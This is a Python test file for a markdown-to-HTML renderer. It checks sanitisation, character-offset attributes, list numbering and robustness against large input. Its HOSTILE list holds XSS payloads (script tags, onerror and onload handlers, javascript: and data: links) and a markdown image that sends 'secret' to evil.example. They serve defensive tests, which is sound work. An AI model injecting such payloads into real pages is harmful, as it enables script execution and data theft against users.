"""Text becomes HTML that may be shown as it is, and that says which characters it was made from."""

import re

import pytest
from lxml import html as parser

from ibidem.domain.conversation import AnswerPart
from ibidem.shapes.rendering import answer_html, quoted_html, written_html

BLOCK = re.compile(r'<(\w+)[^>]* data-start="(\d+)" data-end="(\d+)"')
HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "<https://evil.example>",
    "[x]: https://evil.example\n[x]",
    '<svg onload="alert(1)"><style>*{}</style></svg>',
    '<a href="data:text/html,x">x</a>',
    "`<b>`",
    "```html\n<iframe src=x></iframe>\n```",
    "| <img src=x> | b |\n| --- | --- |\n| <style>x</style> | [x](http://x) |",
    "# <form action=x>",
    "&lt;script&gt; &#60;b&#62;",
)
ALLOWED = {
    "p",
    "br",
    "ul",
    "ol",
    "li",
    "blockquote",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "pre",
    "code",
    "em",
    "strong",
    "s",
}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("render", [quoted_html, written_html])
def test_no_text_becomes_more_than_text(text: str, render) -> None:
    tree = parser.fragment_fromstring(render(text), create_parent="div")
    for element in tree.iterdescendants():
        assert element.tag in ALLOWED or re.fullmatch("h[1-6]", str(element.tag)), element.tag
        assert set(element.attrib) <= {"data-start", "data-end", "start", "value"}


@pytest.mark.parametrize(
    "sentence",
    [
        "볼트를 *12 N·m*로 조인다 [1]. snake_case_이름 <필수>",
        "Tighten to *12 N·m* [1], a_b_c and <required>",
        "*12 N·m*で締める [1]。a_b_c <必須>",
    ],
)
def test_what_is_quoted_stands_there_letter_by_letter(sentence: str) -> None:
    shown = parser.fragment_fromstring(quoted_html(sentence), create_parent="div").text_content()
    assert shown.strip() == sentence


def test_blocks_say_which_characters_they_are_made_from() -> None:
    text = "# 제목\n\n첫 문장. 😀\n둘째 줄\n\n1. 하나\n2. 둘\n\n| 가 | 나 |\n| --- | --- |\n| 1 | 2 |\n\n```\ncode\n```\n"
    found = [(tag, text[int(start) - 50 : int(end) - 50]) for tag, start, end in BLOCK.findall(quoted_html(text, 50))]
    assert ("h1", "# 제목") in found
    assert ("p", "첫 문장. 😀\n둘째 줄") in found
    assert ("tr", "| 1 | 2 |") in found
    assert [said.strip() for tag, said in found if tag == "li"] == ["1. 하나", "2. 둘"]
    assert ("code", "```\ncode\n```") in found


def test_markdown_of_a_model_is_rendered_and_that_of_a_quotation_is_not() -> None:
    part = AnswerPart("**굵게**", "sentence", 1)
    assert "<strong>" in answer_html("**굵게** [1]", ())
    assert "<strong>" not in answer_html("**굵게** [1]", (part,))


@pytest.mark.parametrize("piece", ["- ", "> ", "*a ", "| a ", "[", "`", "_a*", "```\n", "- a\n", "1. 가\n", "| 가 |\n"])
def test_the_page_of_a_hostile_document_is_rendered(piece: str) -> None:
    """A page has 20,000 characters; that is what one rendering costs at most."""
    text = (piece * 20_000)[:20_000]
    assert quoted_html(text) and written_html(text)


@pytest.mark.parametrize(
    ("text", "numbers"),
    [
        ("1. 전원을 끈다.\n2. 배관을 분리한다.\n4. 펌프를 들어낸다.\n5. 새 펌프를 넣는다.", [1, 2, 4, 5]),
        ("6. Fit the rings.\n8. Start the pump.\n\nWait a minute.\n\n9. Check the gauge.", [6, 8, 9]),
        ("3) 弁を閉じる。\n7) 排気する。", [3, 7]),
        ("2. Outer\n   1. inner\n   3. inner\n3. Outer", [2, 1, 3, 3]),
    ],
)
@pytest.mark.parametrize("render", [quoted_html, written_html])
def test_an_item_of_a_list_keeps_its_own_number(text: str, numbers: list[int], render) -> None:
    assert numbers_shown(parser.fragment_fromstring(render(text), create_parent="div")) == numbers


def numbers_shown(tree) -> list[int]:
    """The numbers that a browser shows, in the order of the items."""
    shown: dict[object, int] = {}
    for items in tree.iterdescendants("ol"):
        number = int(items.get("start", 1)) - 1
        for item in items.iterchildren("li"):
            number = int(item.get("value", number + 1))
            shown[item] = number
    return [shown[item] for item in tree.iterdescendants("li")]
